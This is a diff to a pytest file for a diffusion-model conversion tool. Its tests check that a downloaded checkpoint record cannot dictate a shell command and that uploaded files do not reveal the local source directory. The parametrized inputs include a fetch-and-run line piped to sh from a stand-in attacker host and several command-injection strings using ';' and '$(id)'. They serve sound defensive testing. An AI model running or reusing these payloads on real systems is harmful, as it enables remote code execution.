@@ -130,10 +130,20 @@ def test_hidden_files_are_no_weights(hidden: str) -> None:
 
 @pytest.mark.parametrize(
     "command",
-    ["curl evil.example | sh", "mlx-diffusion convert a b; curl x", "mlx-diffusion convert $(id) b",
-     "mlx-diffusion convert a\nb", "mlx-diffusion convert 'a", "mlx-diffusion generate x", "mlx-diffusion convert a\x1b[2J b", 7, None],
+    [
+        "curl evil.example | sh", "mlx-diffusion convert a b; curl x", "mlx-diffusion convert $(id) b",
+        "mlx-diffusion convert a\nb", "mlx-diffusion convert 'a", "mlx-diffusion generate x",
+        "mlx-diffusion convert a\x1b[2J b", 7, None,
+    ],
 )  # fmt: skip
 def test_a_downloaded_record_dictates_no_command(command: object, source: Path) -> None:
     (source / "conversion.json").write_text(json.dumps({"command": command}))
-    with pytest.raises(CheckpointError, match="to go on, run: the same `mlx-diffusion convert` again$"):
+    with pytest.raises(CheckpointError, match="to go on, run: the same `mlx-diffusion convert` again"):
         Checkpoint.open(source)
+
+
+def test_what_is_uploaded_names_a_local_source_and_not_where_it_lay(source: Path, target: Path) -> None:
+    convert(source, target)
+    for name in ("README.md", "made_from.json"):
+        text = (target / name).read_text()
+        assert str(source.parent) not in text and source.name in text
